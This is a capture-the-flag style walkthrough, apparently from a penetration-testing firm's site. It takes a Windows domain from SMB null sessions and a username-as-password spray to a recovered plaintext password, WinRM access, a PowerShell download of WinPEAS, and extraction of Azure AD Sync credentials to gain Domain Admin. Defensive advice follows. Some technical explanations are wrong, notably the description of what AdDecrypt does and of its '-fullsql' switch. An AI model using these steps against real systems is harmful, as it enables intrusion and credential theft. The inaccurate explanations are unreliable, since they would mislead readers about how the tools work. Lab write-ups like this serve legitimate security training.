First an nmap scan was ran against the target (

Nmap is a tool used to scancomputer networks and identify what devices are connected to them, as well as what services and applications are running on those devices. Think of it like a digital detective that can help you gather information about a network, like what devices are on it, what they're doing, and how they're connected to each other.

Next, I used enum4linux against the host for very quick, automated scan to gather information

Enum4linux is a tool that can be used to gather information about a Windows-based computer network such as user and group names, shares, and other sensitive information that can be used to gain unauthorized access to the network.

Enum4linux focuses on the Server Message Block (SMB) protocol, specifically ports 139 and 445, which are the default ports used by SMB. These ports are used to establish a connection between computers and exchange information over the network.

Sometimes it's a false positive but it looks like null sessions are allowed which could be helpful to me.

A null session is a type of network connection that may allow someone to access sensitive information without needing a username or password. A null session can be used to gather information about user accounts, shares, and other resources on a network without having to authenticate.

As well, usernames are found already and there is a bunch of them so this could be an easy foothold.

By foothold I mean initial access. Think like rock-climbing where it's just thefirst step to get further.

This combined with the fact that I can see the password policy and there's NO lockout threshold and a minimum length of 7 characters with complexity disabled…. this could be easy.

When a password lockout threshold is set to "no" on a computer system, it means that there is no limit on the number of times a user can attempt to log in with an incorrect password. This can be a security riskbecause it allows attackers to use automated tools to repeatedly try different password combinations until they are able to successfully log in to the system.

Disabling password complexity rules means that users are not required to create strong passwords that meet certain criteria, such as having a certain length or including special characters. This can also be a security risk because it makes it easier for attackers to guess or crack passwords using common or simple combinations.

Null sessions did work with rpcclient so I ran some RPC commands to find additional information.

RPC (Remote Procedure Call) is a protocol used by computer systems to communicate with each other across a network. RPCclient is a command-line tool used for testing and troubleshooting RPC services on Windows-based systems.

Null sessions in RPCclient refer to a type of network connection that does not require any authentication or credentials to be provided by the user

So I started with a password spray using usernames as the passwords and I got a hit for the SABatchJobs account.

Password spraying is a type of cyber attack that involves trying a small number of commonly used passwords against a number of user accounts in order to gain unauthorized access. This is different from a traditional brute force attack, which involves trying a large number of passwords against a single user account.

SMBclient allowed me to access the “users$” share thanks to the discoveredSABatchJobs:SABatchJobs credentials and the Mhope user has an interesting xml file, so I download it...and this XML contains credentials.

Be very wary of plaintext passwords you may have stored on your computer and especially avoid these on known shared directories. All it takes is for a user to run a command like: "findstr /spin Password *.*" to find things like this.

I now use this password, 4n0therD4y@n0th3r$ (sprayed) against the same userlist from before, and it is indeed valid for Mhope (which makes sense since the xml was under his name in users$).

Additionally, mhope:4n0therD4y@n0th3r$ works to login to WinRM on port 5985.

WinRM (Windows Remote Management) is a tool developed by Microsoft that allows administrators to remotely manage computers running on Windows operating systems.

And I get the user flag.

This is essentially just proof that a user account is compromised now on the machine.

I then uploaded Winpeas with the command: powershell -c iex (New-Object Net.WebClient).DownloadFile('', 'C:\Users\mhope\Documents\upload.exe')...though looking back I probably could've just ran the easier, built-in, upload through evil-winrm instead of setting up an HTTP server and using powershell. Either way, Istart the scan.

WinPEAS is a command-line tool designed to help identify potential security vulnerabilities and weaknesses that could be exploited by attackers to gain unauthorized access to a system (usually a higher level of access/privilege)

WinPEAS shows me in part of its output that Azure Token Cache  / Cloud credentials are available on this machine:

Azure is a cloud computing platform and service provided by Microsoft. Azure Token Cache is a component of Azure that stores security tokens, which are used to authenticate and authorize users and applications.. Essentially, the Token Cache remembers the credentials of authenticated users and can provide access to Azure resources without requiring them to authenticate again.

With this information, knowing that Mhope is an Azure admin (but a standard domain user), I want to upload AdDecrypt.exe and mcrypt.dll. This is done with evil-winrm.In Windows Active Directory, passwords are not stored in plaintext, but as a hashed value that is calculatedbased on the password itself. This is done to improve security, as it makes it more difficult for attackers to obtain the actual password.

AdDecrypt.exe is a command-line tool that is used to decrypt password hashes in Windows Active Directory environments. It works by loading the mcrypt.dll library, which contains the necessary functions to decrypt the hash with the appropriate encryption algorithm.

The next step is to change tothe program directory of Microsoft Azure AD Sync (actually, the BIN folder within) and start the decryptor from there.

I saw there is SQL running locally, and this would affect my command as you will see shortly:

The SQL Server Service listens for requests from other programs, such as web servers or desktop applications, and then performs the necessary actions on the SQL Server database to fulfill those requests. These actions could include querying the database for information, updating data in the database, or creating new records.The "-fullsql" switch (as seen below) in AdDecrypt.exe is used to decrypt passwords in Windows Active Directory environments that have been stored using the "SQL Server Authentication Hash" method. This method is used when a SQL Server is configured to store passwords for its users.

When this switch is used, AdDecrypt.exe will attempt to decrypt the password using a SQL Server instance that is installed on the domain controller. This is necessary because the encryption algorithm used to hash passwords in SQL Server Authentication Hash is specificto SQL Server and cannot be decrypted using the default encryption algorithm used in Active Directory.

And you can see I successfully obtained (domain)administrator credentials:

I use these to login over winrm again, and am successful in becoming "administrator"with “Domain Admins” privileges.

A Domain Admin is a user account that has full administrative privileges over a Windows domain. This means that the Domain Admin can access and control all aspects of the domain, including user accounts, computers, and network resources.

Gaining Domain Admin privileges can have a significant impact on a business, as it can allow an attacker to compromise the security of the entire network.

And I get the root flag as proof; It’s over.




- Restrict access to Remote Procedure Call (RPC) services.

- Ensure all software and systems are regularly patched and updated. This includes avoiding legacy SMB versions.

- Disable unnecessary services where possible to reduce the attack surface.

- Protect all credentials. Store Azure credentials securely and avoid storing them on the machine itself. Use role-based access control(RBAC).




Providing Simulated Attack ServicesAnd More To Northern Ontario© 2023 Copyright. All rights reserved.